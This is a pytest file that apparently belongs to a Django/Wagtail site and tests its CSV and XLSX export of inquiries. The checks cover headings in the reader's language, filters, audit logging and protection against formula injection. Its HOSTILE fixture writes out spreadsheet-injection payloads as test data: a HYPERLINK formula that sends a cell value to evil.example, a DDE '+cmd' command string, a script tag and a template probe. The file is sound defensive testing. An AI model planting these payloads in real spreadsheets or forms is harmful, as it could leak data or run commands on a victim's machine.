"""Tables of inquiries: complete, in the reader's language, and inert in every spreadsheet."""

import csv
import io
import zipfile
from typing import Any
from uuid import uuid4

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from django.utils import translation
from wagtail.models import ModelLogEntry
from wagtail.users.models import UserProfile

from leads import audit
from leads.export import csv_lines
from leads.inbox_filters import listed
from leads.models import Lead
from tests.factories.leads import ANSWERS, make_lead
from tests.leads.accounts import account

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"click")'
HOSTILE = {
    "person": FORMULA,
    "company": "+cmd|'/C calc'!A0",
    "email": "@SUM(1+1)*cmd",
    "phone": "-2+3+cmd",
    "country": "<script>alert(1)</script>",
    "message": "\t=1+1\r\n{{7*7}}",
}


@pytest.fixture
def exporter(client: Client) -> User:
    user = account("view_lead", "export_lead")
    client.force_login(user)
    return user


def body(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_the_table_holds_every_answer_under_headings_in_the_readers_language(client: Client, exporter: User) -> None:
    UserProfile.objects.create(user=exporter, preferred_language="en")
    lead = make_lead({"message": "Два\nабзаца 🌲", "phone": "+49 30 1234567"})

    response = client.post(reverse("lead_export"), {"format": "csv"})

    row = table(body(response).decode())[0]
    assert (row["Reference"], row["First and last name"], row["E-mail"]) == (
        lead.reference,
        ANSWERS["person"],
        ANSWERS["email"],
    )
    assert (row["Message"], row["Phone"]) == ("Два\nабзаца 🌲", "'+49 30 1234567")
    assert response["Content-Disposition"].endswith('.csv"')
    assert "no-store" in response["Cache-Control"]


def test_no_cell_of_a_hostile_inquiry_is_a_formula() -> None:
    make_lead(HOSTILE)

    for row in csv.reader(io.StringIO("".join(csv_lines(listed())))):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    with translation.override("en"):
        row = table("".join(csv_lines(listed())))[0]
    assert row["First and last name"] == f"'{FORMULA}"
    assert "{{7*7}}" in row["Message"]


def test_a_workbook_holds_texts_only(client: Client, exporter: User) -> None:
    make_lead(HOSTILE)

    response = client.post(reverse("lead_export"), {"format": "xlsx"})

    workbook = zipfile.ZipFile(io.BytesIO(body(response)))
    sheet = workbook.read("xl/worksheets/sheet1.xml").decode()
    assert "HYPERLINK" in sheet
    assert "<f>" not in sheet and "<hyperlink" not in sheet
    assert "&lt;script&gt;" in sheet
    assert "xl/externalLinks/externalLink1.xml" not in workbook.namelist()


def test_the_filters_of_the_list_apply(client: Client, exporter: User) -> None:
    wanted, other = make_lead(locale="en"), make_lead(locale="ru")

    text = body(client.post(f"{reverse('lead_export')}?locale=en", {"format": "csv"})).decode()

    assert wanted.reference in text
    assert other.reference not in text


def test_what_was_ticked_is_exported_and_nothing_else(client: Client, exporter: User) -> None:
    wanted, other = make_lead(), make_lead()

    text = body(client.post(f"{reverse('lead_export')}?id={wanted.pk}&id=abc", {"format": "csv"})).decode()

    assert wanted.reference in text
    assert other.reference not in text


def test_a_wrong_filter_exports_nothing(client: Client, exporter: User) -> None:
    lead = make_lead()

    text = body(client.post(f"{reverse('lead_export')}?locale=xx", {"format": "csv"})).decode()

    assert lead.reference not in text


def test_each_exported_inquiry_knows_of_it_without_its_data(client: Client, exporter: User) -> None:
    leads = [make_lead(), make_lead()]

    client.post(reverse("lead_export"), {"format": "xlsx"})

    entries = ModelLogEntry.objects.filter(action=audit.EXPORTED, user=exporter)
    assert {entry.label for entry in entries} == {lead.reference for lead in leads}
    assert all(entry.data == {"format": "xlsx"} for entry in entries)


def test_asking_first_takes_nothing_out(client: Client, exporter: User) -> None:
    make_lead()

    page = client.get(reverse("lead_export")).content.decode()

    assert ANSWERS["email"] not in page
    assert not ModelLogEntry.objects.filter(action=audit.EXPORTED).exists()


def test_many_are_streamed_by_a_few_questions_to_the_database(django_assert_max_num_queries: Any) -> None:
    answers = make_lead().data
    Lead.objects.bulk_create(
        Lead(submission_key=uuid4(), reference=f"INV-{number:08}", data=answers) for number in range(400)
    )

    with django_assert_max_num_queries(1):
        lines = list(csv_lines(listed().iterator(chunk_size=200)))
    assert len(lines) == 1 + 1 + 401
